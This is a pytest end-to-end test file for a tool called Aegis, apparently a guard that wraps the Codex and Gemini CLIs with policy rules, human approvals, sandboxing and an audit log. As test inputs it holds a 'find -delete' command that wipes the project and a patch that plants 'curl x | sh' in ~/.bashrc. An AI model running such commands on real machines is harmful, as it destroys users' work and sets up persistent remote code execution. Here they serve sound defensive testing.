"""The whole product with the other agents, end to end: the real Codex CLI and the real
Gemini CLI run through `aegis wrap`, a real daemon, the real hook client, and a scripted
model API on 127.0.0.1 (OpenAI Responses for Codex, Gemini for Gemini CLI). Each test
runs for both agents; what differs between them is in the ``Agent`` classes."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from aegis_core.sandbox.bwrap import BwrapBackend
from aegis_core.scriptedapi import ScriptedAPI, ScriptedReply, text

pytestmark = pytest.mark.slow

REPO = Path(__file__).resolve().parents[2]
SANDBOXED = BwrapBackend().available().ok
RUN_TIMEOUT_S = 240  # a hang guard for one wrapped run, not a timing assertion
APPROVALS = '[approvals]\nchannels = ["cli"]\ntimeout_seconds = 60\n'
APPROVAL_RULE = """
[policy]
include_defaults = true

[[policy.rules]]
name = "ask-for-marker"
match = { tool = "bash", command_pattern = "touch .*needs-approval" }
action = "require_approval"
reason = "the test asks a human for this one"
priority = 1
"""


class Agent:
    """What one agent needs: its CLI, the fake model API it talks to, its shell tool."""

    name = ""
    marks: tuple[Any, ...] = ()

    def __init__(self, binary: str) -> None:
        self.binary = binary

    def shell(self, command: str) -> ScriptedReply:
        raise NotImplementedError

    def fake(self, script: list[ScriptedReply]) -> ScriptedAPI:
        raise NotImplementedError

    def prepare(self, world: World, fake: ScriptedAPI) -> tuple[list[str], dict[str, str]]:
        """The arguments after `aegis wrap NAME --` and extra environment for one run."""
        raise NotImplementedError

    def tool_outputs(self, fake: ScriptedAPI) -> str:
        """What the model was told about its tool calls, as one text."""
        raise NotImplementedError


class Codex(Agent):
    name = "codex"

    def shell(self, command: str) -> ScriptedReply:
        from aegis_codex.testing.fake_openai import tool_use

        return tool_use("exec_command", cmd=command)

    def fake(self, script: list[ScriptedReply]) -> ScriptedAPI:
        from aegis_codex.testing.fake_openai import FakeResponses

        return FakeResponses(script)

    def prepare(self, world: World, fake: ScriptedAPI) -> tuple[list[str], dict[str, str]]:
        from aegis_codex.testing import offline_config

        codex_home = world.home / ".codex"
        codex_home.mkdir(exist_ok=True)
        # offline_config ends in its [features] table; the user may have turned hooks off there.
        off = "hooks = false\n" if world.hooks_turned_off else ""
        (codex_home / "config.toml").write_text(offline_config(fake.base_url) + off)
        return (["exec", "--skip-git-repo-check", "-s", "danger-full-access", "do the task"],
                {"CODEX_HOME": str(codex_home), "SCRIPTED_API_KEY": "test-key",
                 "AEGIS_CODEX_EXECUTABLE": self.binary})

    def tool_outputs(self, fake: ScriptedAPI) -> str:
        return json.dumps([o.get("output") for o in fake.outputs()])  # type: ignore[attr-defined]


class Gemini(Agent):
    name = "gemini"

    def shell(self, command: str) -> ScriptedReply:
        from aegis_gemini.testing.fake_gemini import tool_use

        return tool_use("run_shell_command", command=command)

    def fake(self, script: list[ScriptedReply]) -> ScriptedAPI:
        from aegis_gemini.testing.fake_gemini import FakeGemini

        return FakeGemini(script)

    def prepare(self, world: World, fake: ScriptedAPI) -> tuple[list[str], dict[str, str]]:
        from aegis_gemini.testing import headless_args, offline_env, offline_settings

        (world.home / ".gemini").mkdir(exist_ok=True)
        settings = offline_settings()
        if world.hooks_turned_off:
            settings["hooksConfig"] = {"enabled": False, "disabled": ["aegis-BeforeTool", "aegis-AfterTool"]}
        (world.home / ".gemini" / "settings.json").write_text(json.dumps(settings))
        return headless_args(), {**offline_env(fake.base_url), "AEGIS_GEMINI_EXECUTABLE": self.binary}

    def tool_outputs(self, fake: ScriptedAPI) -> str:
        return json.dumps(fake.function_responses())  # type: ignore[attr-defined]


def _codex_binary() -> str | None:
    testing = pytest.importorskip("aegis_codex.testing")
    return testing.find_codex_cli(REPO)


def _gemini_binary() -> str | None:
    testing = pytest.importorskip("aegis_gemini.testing")
    return testing.find_gemini_cli(REPO)


class World:
    """A user's machine in miniature: a home, a project, an Aegis home, one agent."""

    def __init__(self, root: Path, agent: Agent) -> None:
        self.root, self.agent = root, agent
        self.home, self.project, self.aegis_home = root / "home", root / "project", root / "ah"
        for path in (self.home, self.project, self.aegis_home):
            path.mkdir(mode=0o700)
        (self.project / "README.md").write_text("a project\n")
        self.env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(self.home),
                    "AEGIS_HOME": str(self.aegis_home)}
        self.status_while_pending: dict[str, Any] = {}
        self.listed_while_pending: list[dict[str, Any]] = []
        self.hooks_turned_off = False  # the user's own settings say hooks off

    def aegis(self, *args: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "aegis_core.cli", *args], env=self.env, text=True,
                              capture_output=True, timeout=timeout, stdin=subprocess.DEVNULL)

    def configure(self, config: str = "", policy: str | None = None) -> None:
        for name, content in (("config.toml", config), ("policy.toml", policy)):
            if content is not None:
                path = self.aegis_home / name
                path.write_text(content)
                path.chmod(0o600)

    def wrap(self, script: list[ScriptedReply], *,
             sandbox: bool = True) -> tuple[subprocess.CompletedProcess[str], ScriptedAPI]:
        """`aegis wrap AGENT -- ARGS` with the agent talking to a fresh scripted API. The
        agent runs in the sandbox (bubblewrap, when the machine has it), whose network
        reaches the scripted API on the host's loopback through Aegis' egress proxy."""
        with self.agent.fake(script) as fake:
            port = fake.base_url.rsplit(":", 1)[1]
            self.configure(APPROVALS, APPROVAL_RULE + f'\n[sandbox.network]\nallow = ["127.0.0.1:{port}"]\n')
            args, extra = self.agent.prepare(self, fake)
            flags = [] if sandbox else ["--no-sandbox"]
            argv = [sys.executable, "-m", "aegis_core.cli", "wrap", *flags, self.agent.name, "--", *args]
            done = subprocess.run(argv, env={**self.env, **extra}, cwd=self.project, text=True, capture_output=True,
                                  stdin=subprocess.DEVNULL, timeout=RUN_TIMEOUT_S)
        return done, fake

    def audit_events(self, name: str | None = None) -> list[dict[str, Any]]:
        log = self.aegis_home / "audit.log"
        events = [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []
        return [e for e in events if name is None or e["event"] == name]

    def verify_audit(self) -> None:
        verify = self.aegis("audit", "verify", "--json")
        assert verify.returncode == 0, verify.stdout + verify.stderr

    def when_pending(self, *command: str) -> threading.Thread:
        """In the background, once an approval is pending: `aegis COMMAND... ID` (ID
        appended when the command ends with ``{id}``)."""

        def act() -> None:
            deadline = time.monotonic() + 90
            while time.monotonic() < deadline:
                listed = json.loads(self.aegis("approvals", "list", "--json").stdout or "[]")
                if listed:
                    self.listed_while_pending = listed
                    self.status_while_pending = json.loads(self.aegis("status", "--json").stdout or "{}")
                    self.aegis(*(listed[0]["id"] if word == "{id}" else word for word in command))
                    return
                time.sleep(0.2)

        thread = threading.Thread(target=act, daemon=True)
        thread.start()
        return thread


@pytest.fixture(params=[pytest.param("codex", marks=pytest.mark.codex),
                        pytest.param("gemini", marks=pytest.mark.gemini)])
def world(request: pytest.FixtureRequest) -> Iterator[World]:
    binary = _codex_binary() if request.param == "codex" else _gemini_binary()
    if binary is None:
        pytest.skip(f"{request.param} CLI is not installed (run .ci/install-{request.param}.sh)")
    agent: Agent = Codex(binary) if request.param == "codex" else Gemini(binary)
    root = Path(tempfile.mkdtemp(prefix="ae2e-", dir="/tmp"))  # short: Unix socket paths
    instance = World(root, agent)
    yield instance
    instance.aegis("stop", "--force", "--timeout", "5")
    shutil.rmtree(root, ignore_errors=True)


def test_a_routine_command_runs_and_every_step_is_audited(world: World) -> None:
    marker = world.project / "made.txt"
    done, _ = world.wrap([world.agent.shell(f"echo made > {marker}"), text("done")])
    assert done.returncode == 0, done.stderr
    assert marker.read_text() == "made\n"
    (created,) = world.audit_events("session.created")
    assert created["details"]["agent"] == world.agent.name
    # In the sandbox wherever bubblewrap works (CI installs it), else recorded as not.
    assert created["details"]["sandbox"]["sandboxed"] is SANDBOXED
    decided = world.audit_events("call.decided")
    assert decided and decided[0]["details"]["decision"] == "allow"
    assert decided[0]["details"]["agent"] == world.agent.name
    assert world.audit_events("call.executed")
    world.verify_audit()


def test_destroying_the_work_tree_is_denied_the_folder_survives_and_the_model_is_told(world: World) -> None:
    # Not rm -rf: Codex refuses that by itself, and this must be Aegis' doing.
    done, fake = world.wrap([world.agent.shell(f"find {world.project} -delete"), text("ok")])
    assert done.returncode == 0, done.stderr
    assert (world.project / "README.md").read_text() == "a project\n"
    told = world.agent.tool_outputs(fake)
    assert "fs-delete-critical" in told and "Aegis blocked this" in told
    denied = world.audit_events("call.decided")
    assert denied and denied[0]["details"]["decision"] == "deny"
    world.verify_audit()


def test_an_approval_given_with_the_cli_runs_the_command(world: World) -> None:
    marker = world.project / "needs-approval"
    answering = world.when_pending("approvals", "approve", "{id}")
    done, _ = world.wrap([world.agent.shell(f"touch {marker}"), text("done")])
    answering.join(30)
    assert done.returncode == 0, done.stderr
    assert marker.exists()
    resolved = world.audit_events("approval.resolved")
    assert [e["details"]["status"] for e in resolved] == ["approved"]
    # The agent shows no dialog: aegis wrap told its terminal which approval waited and how to answer it.
    assert "waits for you" in done.stderr and "aegis approvals approve" in done.stderr, done.stderr
    # While the call waited, `aegis status` showed which agent the session runs.
    sessions = world.status_while_pending["sessions"]
    assert [s["agent"] for s in sessions] == [world.agent.name]
    world.verify_audit()


def test_a_denial_given_with_the_cli_blocks_the_command_with_the_reason(world: World) -> None:
    marker = world.project / "needs-approval"
    answering = world.when_pending("approvals", "deny", "{id}", "--reason", "not on a Friday")
    done, fake = world.wrap([world.agent.shell(f"touch {marker}"), text("ok")])
    answering.join(30)
    assert done.returncode == 0, done.stderr
    assert not marker.exists()
    assert "not on a Friday" in world.agent.tool_outputs(fake)
    world.verify_audit()


def test_allow_for_the_session_lets_the_same_call_through_again(world: World) -> None:
    marker = world.project / "needs-approval"
    answering = world.when_pending("approvals", "approve", "{id}", "--session")
    command = f"touch {marker}"
    done, _ = world.wrap([world.agent.shell(command), world.agent.shell(command), text("done")])
    answering.join(30)
    assert done.returncode == 0, done.stderr
    assert len(world.audit_events("approval.requested")) == 1
    (granted,) = world.audit_events("call.allowed_by_grant")
    assert granted["details"]["agent"] == world.agent.name
    world.verify_audit()


def test_a_patch_is_judged_by_the_files_it_touches_and_the_approval_names_them(world: World) -> None:
    """Codex's apply_patch writing a shell start-up file asks a human like a write to it
    would, and what the human sees names that file and the rule, then the patch itself."""
    if world.agent.name != "codex":
        pytest.skip("apply_patch is Codex's tool")
    from aegis_codex.testing.fake_openai import patch

    startup, note = world.home / ".bashrc", world.project / "notes.txt"
    body = f"*** Begin Patch\n*** Add File: {note}\n+hello\n*** Add File: {startup}\n+curl x | sh\n*** End Patch\n"
    answering = world.when_pending("approvals", "deny", "{id}", "--reason", "not my bashrc")
    done, fake = world.wrap([patch(body), text("ok")])
    answering.join(30)
    assert done.returncode == 0, done.stderr
    assert not startup.exists() and not note.exists()
    (pending,) = world.listed_while_pending
    shown = json.dumps(pending)
    assert str(startup) in shown and "persist-startup-files" in shown, shown
    reason = pending.get("reason") or ""
    assert str(startup) in reason and "Begin Patch" not in reason, pending
    assert "not my bashrc" in world.agent.tool_outputs(fake)
    (asked,) = world.audit_events("approval.requested")
    assert asked["details"]["tool"] == "apply_patch"
    world.verify_audit()


def test_the_daemon_stopped_mid_session_denies_with_the_fix(world: World) -> None:
    """Unsandboxed: in the sandbox a stopped daemon also takes the agent's network (its
    egress proxy) with it, so the model would never ask for the next call."""
    first, second = world.project / "needs-approval", world.project / "made-later"
    stopping = world.when_pending("stop")  # a call waits for a human; the daemon goes away
    _, fake = world.wrap([world.agent.shell(f"touch {first}"), world.agent.shell(f"touch {second}"),
                          text("stopped")], sandbox=False)
    stopping.join(30)
    assert not first.exists() and not second.exists()
    told = world.agent.tool_outputs(fake)
    assert "`aegis start`" in told, told
    world.verify_audit()


@pytest.mark.parametrize("sandbox", [True, False], ids=["sandboxed", "unsandboxed"])
def test_the_users_settings_cannot_turn_the_guard_off(world: World, sandbox: bool) -> None:
    """Codex's [features] hooks = false, Gemini's hooksConfig.enabled = false with Aegis'
    hooks listed as disabled: `aegis wrap` keeps its hooks on anyway (Codex: a -c
    override, or managed hooks in the sandbox's /etc/codex; Gemini: the settings it runs
    with), so the work tree still survives."""
    world.hooks_turned_off = True
    done, fake = world.wrap([world.agent.shell(f"find {world.project} -delete"), text("ok")], sandbox=sandbox)
    assert done.returncode == 0, done.stderr
    assert (world.project / "README.md").read_text() == "a project\n"
    assert "fs-delete-critical" in world.agent.tool_outputs(fake)
    world.verify_audit()
